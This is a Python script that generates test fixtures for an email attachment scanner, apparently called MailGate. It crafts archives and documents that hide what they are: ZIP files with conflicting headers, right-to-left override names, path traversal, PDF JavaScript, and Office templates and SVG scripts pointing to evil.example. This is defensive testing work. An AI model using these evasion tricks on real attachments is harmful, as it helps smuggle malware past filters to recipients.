#!/usr/bin/env python3
"""Writes files.yml: attached files that readers see in several ways or that hide what they are, and what MailGate must say of them.
Run in this folder; the same files come out each time."""
import base64, gzip, io, struct, tarfile, zipfile, zlib

PROGRAM = b'MZ\x90\0\x03\0\0\0\x04\0\0\0' + bytes(60)
cases = []


def case(id, name, data, entries=(), flags=(), kind=None, urls=()):
    cases.append((id, name, data, entries, flags, kind, urls))


def zipped(*files, comment=b'', method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as z:
        z.comment = comment
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def extra(kind, data):
    return struct.pack('<HH', kind, len(data)) + data


def by_hand(name, data, central_name=None, central_extra=b'', local_extra=b'', method=0, flags=0, size=None):
    "A ZIP whose two headers can differ."
    central_name = name if central_name is None else central_name
    size = len(data) if size is None else size
    crc = zlib.crc32(data)
    local = struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, flags, method, 0, 0x5C21, crc, len(data), size, len(name), len(local_extra)) + name + local_extra + data
    central = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 20, 20, flags, method, 0, 0x5C21, crc, len(data), size, len(central_name), len(central_extra), 0, 0, 0, 0, 0) \
        + central_name + central_extra
    return local + central + struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)


def tarred(*files, form=tarfile.USTAR_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=form) as t:
        for name, data, kind, link in files:
            info = tarfile.TarInfo(name)
            info.size, info.type, info.linkname = len(data), kind, link
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def member(name, data, form=tarfile.USTAR_FORMAT):
    return tarred((name, data, tarfile.REGTYPE, ''), form=form)


# ZIP
case('zip-name-of-the-unicode-field', 'a.zip', by_hand(b'ok.txt', PROGRAM, central_extra=extra(0x7075, b'\1' + struct.pack('<I', zlib.crc32(b'ok.txt')) + b'evil.exe')),
     ['ok.txt', 'evil.exe'], ['Executable', 'Inconsistent'])
case('zip-names-differ', 'a.zip', by_hand(b'evil.exe', PROGRAM, b'good.txt'), ['evil.exe', 'good.txt'], ['Executable', 'Inconsistent'])
case('zip-behind-other-octets', 'a.zip', b'junk' * 20 + zipped(('evil.exe', PROGRAM)), ['evil.exe'], ['Executable'])
case('zip-with-octets-behind', 'a.zip', zipped(('evil.exe', PROGRAM)) + b'junk' * 20, ['evil.exe'], ['Executable'])
case('zip-end-record-in-comment', 'a.zip', zipped(('evil.exe', PROGRAM), comment=b'PK\5\6' + bytes(18)), ['evil.exe'], ['Executable'])
case('zip-two-archives', 'a.zip', zipped(('evil.exe', PROGRAM)) + zipped(('ok.txt', b'x')), ['evil.exe', 'ok.txt'], ['Executable'])
case('zip-without-directory', 'a.zip', zipped(('evil.exe', PROGRAM)).split(b'PK\1\2')[0], ['evil.exe'], ['Malformed', 'Executable'])
case('zip-with-backslashes', 'a.zip', by_hand(b'..\\..\\evil.exe', PROGRAM), ['../../evil.exe'], ['Executable', 'PathTraversal'])
case('zip-name-with-nul', 'a.zip', by_hand(b'evil.exe\0.txt', PROGRAM), (), ['Executable'])
case('zip-name-with-blanks-and-dots', 'a.zip', by_hand(b'evil.exe. . ', PROGRAM), (), ['Executable'])
case('zip-name-right-to-left', 'a.zip', zipped(('invoice\u202efdp.exe', PROGRAM)), (), ['Executable', 'MisleadingName'])
case('zip-program-called-text', 'a.zip', zipped(('readme.txt', PROGRAM)), ['readme.txt'], ['Executable'])
case('zip-encrypted', 'a.zip', by_hand(b'evil.exe', bytes(40), flags=1), ['evil.exe'], ['Encrypted', 'Executable'])
case('zip-encrypted-aes', 'a.zip', by_hand(b'evil.exe', bytes(40), flags=1, method=99, central_extra=extra(0x9901, b'\2\0AE\3\x08\0')), ['evil.exe'], ['Encrypted', 'Executable'])
case('zip-encrypted-in-one-header', 'a.zip', by_hand(b'evil.exe', bytes(40), flags=1)[:6] + b'\0\0' + by_hand(b'evil.exe', bytes(40), flags=1)[8:], ['evil.exe'],
     ['Encrypted', 'Inconsistent'])
case('zip-unknown-method', 'a.zip', by_hand(b'evil.exe', bytes(40), method=14), ['evil.exe'], ['Executable'])
case('zip-split-first-volume', 'a.zip', b'PK\7\x08' + zipped(('evil.exe', PROGRAM)), ['evil.exe'], ['Executable'], 'Zip')
case('zip64-sizes', 'a.zip', by_hand(b'evil.exe', PROGRAM, central_extra=extra(1, struct.pack('<Q', len(PROGRAM))), size=0xFFFFFFFF), ['evil.exe'], ['Executable'])
case('zip-claims-to-be-huge', 'a.zip', by_hand(b'a.bin', bytes(40), size=0xF0000000), ['a.bin'], ['Bomb'])
case('zip-in-zip-in-zip', 'a.zip', zipped(('b.zip', zipped(('c.zip', zipped(('evil.exe', PROGRAM)))))), ['b.zip', 'c.zip', 'evil.exe'], ['Executable', 'NestedArchive'])
case('zip-stored-in-zip', 'a.zip', zipped(('b.zip', zipped(('evil.exe', PROGRAM), method=zipfile.ZIP_STORED)), method=zipfile.ZIP_STORED), ['b.zip', 'evil.exe'], ['Executable', 'NestedArchive'])
case('zip-called-picture', 'a.jpg', zipped(('evil.exe', PROGRAM)), ['evil.exe'], ['Executable', 'TypeMismatch'])
case('zip-of-pdf-with-script', 'a.zip', zipped(('a.pdf', b'%PDF-1.7\n1 0 obj << /S /JavaScript >> endobj')), ['a.pdf'], ['PdfScript'])
case('zip-of-shortcut', 'a.zip', zipped(('invoice.pdf.lnk', b'L\0\0\0\1\x14\2\0' + bytes(80))), (), ['Executable', 'MisleadingName'])
case('self-extracting-zip', 'a.bin', PROGRAM * 20 + zipped(('evil.js', b'x')), ['evil.js'], ['Executable'])

# tar, gzip
case('tar-pax-path', 'a.tar', member('d' * 120 + '/evil.exe', PROGRAM, tarfile.PAX_FORMAT), ['d' * 120 + '/evil.exe'], ['Executable'])
case('tar-gnu-long-name', 'a.tar', member('d' * 120 + '/evil.exe', PROGRAM, tarfile.GNU_FORMAT), ['d' * 120 + '/evil.exe'], ['Executable'])
case('tar-prefix', 'a.tar', member('d' * 90 + '/' + 'e' * 60 + '/evil.exe', PROGRAM), (), ['Executable'])
case('tar-leads-out', 'a.tar', member('../../evil.sh', b'x'), ['../../evil.sh'], ['Executable', 'PathTraversal'])
case('tar-link-leads-out', 'a.tar', tarred(('a', b'', tarfile.SYMTYPE, '../../../etc/passwd')), ['a'], ['PathTraversal'])
case('tar-wrong-checksum', 'a.tar', (lambda t: t[:148] + b'0000000\0' + t[156:])(member('evil.exe', PROGRAM)), ['evil.exe'], ['Executable'])
case('tar-size-in-octets', 'a.tar', (lambda t: t[:124] + b'\x80' + (len(PROGRAM)).to_bytes(11, 'big') + t[136:])(member('evil.exe', PROGRAM)), ['evil.exe'], ['Executable'])
case('tar-size-too-large', 'a.tar', (lambda t: t[:124] + b'77777777777\0' + t[136:])(member('evil.exe', PROGRAM)), ['evil.exe'], ['Malformed', 'Executable'])
case('tar-second-file-after-end', 'a.tar', member('ok.txt', b'x') + member('evil.exe', PROGRAM), ['ok.txt', 'evil.exe'], ['Executable'])
case('gzip-with-name', 'a.gz', b'\x1f\x8b\x08\x08' + bytes(6) + b'evil.exe\0' + zlib.compressobj(9, zlib.DEFLATED, -15).compress(b'') + (lambda c: c.compress(PROGRAM) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, -15))
     + struct.pack('<II', zlib.crc32(PROGRAM), len(PROGRAM)), ['evil.exe'], ['Executable'])
case('gzip-of-tar-of-zip', 'a.tgz', gzip.compress(member('b.zip', zipped(('evil.exe', PROGRAM))), mtime=0), ['b.zip', 'evil.exe'], ['Executable', 'NestedArchive'])
case('gzip-second-member', 'a.gz', gzip.compress(b'', mtime=0) + gzip.compress(PROGRAM, mtime=0), (), ['Executable'])
case('gzip-cut-off', 'a.gz', gzip.compress(PROGRAM, mtime=0)[:-12], (), ())

# Documents
case('office-macro-in-renamed-part', 'a.docx', zipped(('[Content_Types].xml', b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'), ('word/x.bin', b'x')),
     (), ['Macros'], 'OfficeOpenXml')
case('office-macro-sheet', 'a.xlsx', zipped(('[Content_Types].xml', b'<Types/>'), ('xl/macrosheets/sheet1.xml', b'<x/>')), (), ['Macros'])
case('office-template-from-elsewhere', 'a.docx', zipped(('[Content_Types].xml', b'<Types/>'), ('word/_rels/settings.xml.rels',
     b"<Relationships><Relationship Id='r' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/></Relationships>")),
     (), ['ExternalReference'], None, ['http://evil.example/t.dotm'])
case('office-link-with-prefix', 'a.docx', zipped(('[Content_Types].xml', b'<Types/>'), ('word/_rels/document.xml.rels',
     b'<p:Relationships xmlns:p="x"><p:Relationship Id="r" Type="http://x/oleObject" TargetMode="External" Target="http://evil.example/"/></p:Relationships>')),
     (), ['ExternalReference'], None, ['http://evil.example/'])
case('rtf-with-object', 'a.doc', b'{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}', (), ['EmbeddedObject'], 'Rtf')
case('rtf-cut-head', 'a.doc', b'{\\rt{\\object\\objupdate{\\*\\objdata 01050000}}}', (), ['EmbeddedObject'], 'Rtf')
case('pdf-behind-other-octets', 'a.pdf', b'junk' * 100 + b'%PDF-1.7\n1 0 obj << /S /Launch /F (x) >> endobj', (), ['PdfLaunch'], 'Pdf')
case('pdf-name-in-hexadecimal', 'a.pdf', b'%PDF-1.7\n1 0 obj << /S /#4a#61#76#61#53#63#72#69#70#74 >> endobj', (), ['PdfScript'])
case('pdf-script-in-object-stream', 'a.pdf', b'%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n' + zlib.compress(b'1 0 << /S /JavaScript /JS (x) >>') + b'\nendstream', (), ['PdfScript'])
case('pdf-script-in-plain-object-stream', 'a.pdf', b'%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 >> stream\n1 0 << /S /JavaScript /JS (x) >>\nendstream', (), ['PdfScript'])
case('pdf-address-in-hexadecimal', 'a.pdf', b'%PDF-1.7\n1 0 obj << /S /URI /URI <687474703a2f2f6576696c2e6578616d706c652f> >> endobj', (), (), None, ['http://evil.example/'])
case('svg-with-script', 'a.svg', b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>location="http://evil.example/"</script></svg>', (), (), 'Svg')
case('html-called-pdf', 'a.pdf', b'<html><script>x</script></html>', (), ['TypeMismatch'], 'Html')
case('shortcut', 'a.dat', b'L\0\0\0\1\x14\2\0' + bytes(80), (), ['Executable'], 'Shortcut')
case('internet-shortcut', 'a.dat', b'[InternetShortcut]\r\nURL=http://evil.example/\r\n', (), ['Executable'], 'InternetShortcut')
case('script-by-name', 'a.hta', b'<html></html>', (), ['Executable'])
case('one-note', 'a.one', b'\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d' + bytes(80), (), (), 'OneNote')

def text(s):
    return '"' + s.replace('\\', '\\\\').replace('"', '\\"').encode('unicode_escape').decode().replace('\\\\', '\\') + '"' if not s.isascii() or '\0' in s else "'" + s.replace("'", "''") + "'"


with open('files.yml', 'w', encoding='ascii') as out:
    out.write('# Written by make.py: attached files, entries and flags among others that must be found, kind and addresses.\n')
    for id, name, data, entries, flags, kind, urls in cases:
        packed = 'gzip: ' + base64.b64encode(gzip.compress(data, 9, mtime=0)).decode()
        out.write(f'- {{ id: {id}, name: {text(name)}, {packed}, entries: [{", ".join(map(text, entries))}], flags: [{", ".join(flags)}]'
                  + (f', kind: {kind}' if kind else '') + (f', urls: [{", ".join(map(text, urls))}]' if urls else '') + ' }\n')
